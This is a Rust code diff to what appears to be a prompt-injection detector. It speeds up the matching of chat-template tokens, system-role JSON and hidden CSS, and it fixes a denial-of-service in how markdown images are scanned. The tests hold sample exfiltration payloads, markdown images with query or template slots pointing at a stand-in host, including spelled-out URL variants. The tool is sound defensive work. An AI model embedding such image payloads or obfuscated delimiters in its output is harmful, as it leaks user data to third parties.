@@ -75,6 +75,29 @@ const HIDDEN_CSS: &[&str] = &[
     "color: #fff",
 ];
 
+const JSON_SYSTEM_ROLE: &[&str] = &["\"role\": \"system\"", "\"role\":\"system\""];
+
+/// Some pattern of `patterns` occurs in `hay`, where every pattern holds one of the `anchors`
+/// (ASCII punctuation such as `<`, `[`, `:`; asserted in the tests): one pass finds the anchor
+/// bytes and each pattern is compared around them. A substring search per pattern cost ~0.6M
+/// instructions per 4 KB of source code, where `<`, `[` and `:` are everywhere.
+fn occurs(hay: &str, anchors: &[char], patterns: &[&str]) -> bool {
+    let bytes = hay.as_bytes();
+    anchors.iter().any(|&anchor| {
+        // `match_indices` of a `char` runs on `memchr`.
+        hay.match_indices(anchor).any(|(at, _)| {
+            patterns.iter().any(|p| {
+                // A match holds the pattern's first `anchor` at `at`.
+                p.find(anchor).is_some_and(|k| {
+                    at.checked_sub(k)
+                        .and_then(|from| bytes.get(from..))
+                        .is_some_and(|h| h.starts_with(p.as_bytes()))
+                })
+            })
+        })
+    })
+}
+
 /// Separators dropped when a label or delimiter is spelled out (`s-y-s-t-e-m`, `i m_s t a r t`).
 fn is_spelling_separator(c: char) -> bool {
     matches!(c, ' ' | '-' | '.' | '*' | '\t')
@@ -100,16 +123,12 @@ fn squashed(text: &str) -> impl Iterator<Item = char> + '_ {
         .map(|c| leet_letter(c.to_ascii_lowercase()))
 }
 
-/// `text`, squashed, starts with `label`, squashed.
-fn squashed_starts_with(text: &str, label: &str) -> bool {
-    let mut t = squashed(text);
-    squashed(label).all(|l| t.next() == Some(l))
-}
-
 /// Longest label prefix compared in the spelled-out form.
 const LABEL_WINDOW: usize = 64;
 
-fn line_label(line: &str) -> Option<bool> {
+/// The role label a line opens with: `Some(true)` strong, `Some(false)` weak. `squashed_head`
+/// is a buffer reused from line to line.
+fn line_label(line: &str, squashed_head: &mut String) -> Option<bool> {
     let l = line.trim_start_matches(|c: char| {
         c.is_whitespace() || c == '>' || c == '*' || c == '-' || c == '`' || c == '"'
     });
@@ -127,10 +146,17 @@ fn line_label(line: &str) -> Option<bool> {
     if !spelled {
         return None;
     }
-    if STRONG_LABELS.iter().any(|p| squashed_starts_with(head, p)) {
+    // Squash the line's head once, not once per label.
+    squashed_head.clear();
+    squashed_head.extend(squashed(head));
+    let squashed_starts_with = |label: &str| {
+        let mut t = squashed_head.chars();
+        squashed(label).all(|l| t.next() == Some(l))
+    };
+    if STRONG_LABELS.iter().any(|p| squashed_starts_with(p)) {
         return Some(true);
     }
-    if WEAK_LABELS.iter().any(|p| squashed_starts_with(head, p)) {
+    if WEAK_LABELS.iter().any(|p| squashed_starts_with(p)) {
         return Some(false);
     }
     None
@@ -197,23 +223,56 @@ fn spelled_template_token(lower: &str) -> bool {
     false
 }
 
+/// Longest `![alt` before its `](` that still reads as one image.
+const MAX_IMAGE_ALT: usize = 200;
+/// Longest spelled-out URL read (`h t t p s : / / ...`).
+const MAX_SPELLED_URL: usize = 512;
+
+/// Where the URL that starts at `from` ends: at `)`, a space or a newline, or at the next `](`
+/// (a URL never holds one; stopping there keeps the URLs of consecutive images apart).
+fn url_end(bytes: &[u8], from: usize) -> usize {
+    let mut i = from;
+    while let Some(&b) = bytes.get(i) {
+        if matches!(b, b')' | b' ' | b'\n') || (b == b']' && bytes.get(i + 1) == Some(&b'(')) {
+            break;
+        }
+        i += 1;
+    }
+    i
+}
+
 /// Markdown images `![..](url)` whose URL carries a query or a template slot.
+///
+/// Linear in the text, whatever it holds: the `](` after each `![` is found by one forward
+/// search shared by every `![` before it, each `](` is read once, and its URL ends at the next
+/// `](`. (Searching the rest of the text for each `![` took seconds on a run of `![`: a
+/// denial of service.)
 fn markdown_image(lower: &str) -> Option<Signal> {
+    let bytes = lower.as_bytes();
     let mut best: Option<Signal> = None;
+    // The first `](` at or after the current `![`, and the last `](` whose URL was read.
+    let mut close: Option<usize> = None;
+    let mut read: Option<usize> = None;
     for (pos, _) in lower.match_indices("![") {
-        let rest = lower.get(pos..).unwrap_or("");
-        let Some(open) = rest.find("](") else {
-            continue;
+        if close.is_none_or(|c| c < pos) {
+            close = lower.get(pos..).and_then(|r| r.find("](")).map(|i| pos + i);
+        }
+        let Some(c) = close else {
+            break;
         };
-        if open > 200 {
+        if c - pos > MAX_IMAGE_ALT || read == Some(c) {
             continue;
         }
-        let target = rest.get(open + 2..).unwrap_or("");
-        let mut url = target.split([')', ' ', '\n']).next().unwrap_or("");
+        read = Some(c);
+        let from = c + 2;
+        let target = lower.get(from..url_end(bytes, from)).unwrap_or("");
         let spelled: String;
+        let mut url = target;
         if !(url.starts_with("http") || url.starts_with("//")) {
-            // Spelled out or in leetspeak: `h t t p s://`, `h.t.t.p.s://`, `h77p5://`.
-            let body = head(target, 512);
+            // Spelled out or in leetspeak: `h t t p s://`, `h.t.t.p.s://`, `h77p5://`: spaces
+            // are part of the URL then, so it runs to `)` or a newline.
+            let rest = lower.get(from..).unwrap_or("");
+            let body = head(rest, MAX_SPELLED_URL).split("](").next().unwrap_or("");
             let body = body.split([')', '\n']).next().unwrap_or("");
             spelled = squashed(body).collect();
             if !(spelled.starts_with("http") || spelled.starts_with("//")) {
@@ -260,14 +319,15 @@ pub fn signals(clean: &str) -> Vec<Signal> {
     let mut out: Vec<Signal> = Vec::new();
     // Every template token and spelled-out delimiter opens with `<` or `[`.
     if (angle || bracket)
-        && (TEMPLATE_TOKENS.iter().any(|t| lower.contains(t)) || spelled_template_token(&lower))
+        && (occurs(&lower, &['<', '['], TEMPLATE_TOKENS) || spelled_template_token(&lower))
     {
         out.push(("delimiter.chat_template", Family::Delimiter, 0.75, 0.85));
     }
     let mut strong = false;
     let mut weak = 0usize;
+    let mut squashed_head = String::new();
     for line in lower.lines() {
-        match line_label(line) {
+        match line_label(line, &mut squashed_head) {
             Some(true) => strong = true,
             Some(false) => weak += 1,
             None => {}
@@ -279,10 +339,7 @@ pub fn signals(clean: &str) -> Vec<Signal> {
     if weak >= 2 {
         out.push(("delimiter.transcript", Family::Delimiter, 0.2, 0.45));
     }
-    if quote
-        && colon
-        && (lower.contains("\"role\": \"system\"") || lower.contains("\"role\":\"system\""))
-    {
+    if quote && colon && occurs(&lower, &[':'], JSON_SYSTEM_ROLE) {
         out.push(("delimiter.json_role", Family::Delimiter, 0.5, 0.7));
     }
     // `![`
@@ -296,8 +353,7 @@ pub fn signals(clean: &str) -> Vec<Signal> {
             out.push(("obfuscation.html_comment", Family::Obfuscation, 0.2, 0.35));
         }
     }
-    // Every hidden-CSS pattern has one `:`.
-    if colon && HIDDEN_CSS.iter().any(|c| lower.contains(c)) {
+    if colon && occurs(&lower, &[':'], HIDDEN_CSS) {
         out.push(("obfuscation.hidden_css", Family::Obfuscation, 0.1, 0.3));
     }
     if !clean.is_ascii() && (clean.contains('\u{1F513}') || clean.contains('\u{1F512}')) {
@@ -376,6 +432,64 @@ mod tests {
 
     fn ids(s: &str) -> Vec<&'static str> {
         signals(s).into_iter().map(|s| s.0).collect()
+    }
+
+    #[test]
+    fn every_literal_pattern_holds_its_anchor() {
+        // `occurs` finds a pattern only around one of its anchor bytes.
+        for t in TEMPLATE_TOKENS {
+            assert!(t.starts_with(['<', '[']), "{t}");
+        }
+        for p in HIDDEN_CSS.iter().chain(JSON_SYSTEM_ROLE) {
+            assert_eq!(p.matches(':').count(), 1, "{p}");
+        }
+        assert!(occurs("a <|im_end|>", &['<', '['], TEMPLATE_TOKENS));
+        assert!(occurs("<<sys>>", &['<', '['], TEMPLATE_TOKENS));
+        assert!(occurs("x{display: none}", &[':'], HIDDEN_CSS));
+        assert!(!occurs("display:: none", &[':'], HIDDEN_CSS));
+        assert!(!occurs(":", &[':'], HIDDEN_CSS));
+    }
+
+    #[test]
+    fn image_runs_are_read_in_linear_time() {
+        // Regression: each `![` searched the rest of the text for `](`, so a body of `![`
+        // took 7 s on 256 KB (release build; minutes for 1 MiB): a denial of service. Each of these
+        // finished in milliseconds after the fix; before it, this test ran for minutes.
+        for unit in [
+            "![",
+            "![a",
+            "![](",
+            "![](h t t p",
+            "![](![](",
+            "![x](http://e.example/?",
+        ] {
+            let text = unit.repeat((1 << 18) / unit.len());
+            assert!(ids(&text).len() <= 1, "{unit}");
+        }
+    }
+
+    #[test]
+    fn images_are_found_after_many_openers_and_side_by_side() {
+        let after_openers = format!("{}![x](https://e.example/p?q={{c}})", "![".repeat(5000));
+        assert_eq!(
+            ids(&after_openers),
+            vec!["exfiltration.markdown_image_slot"]
+        );
+        // Several `![` sharing one `](` are one image.
+        assert_eq!(
+            ids("![![![x](https://e.example/p?d=1)"),
+            vec!["exfiltration.markdown_image_query"]
+        );
+        // The URL of one image ends where the next begins.
+        assert_eq!(
+            ids("![a](https://e.example/a.png)![b](https://e.example/p?d={x})"),
+            vec!["exfiltration.markdown_image_slot"]
+        );
+        assert!(ids("![a](https://e.example/a.png)![b](https://e.example/b.png)").is_empty());
+        assert_eq!(
+            ids("![a](h t t p s : / / e . x / p ? q = { c })"),
+            vec!["exfiltration.markdown_image_slot"]
+        );
     }
 
     #[test]
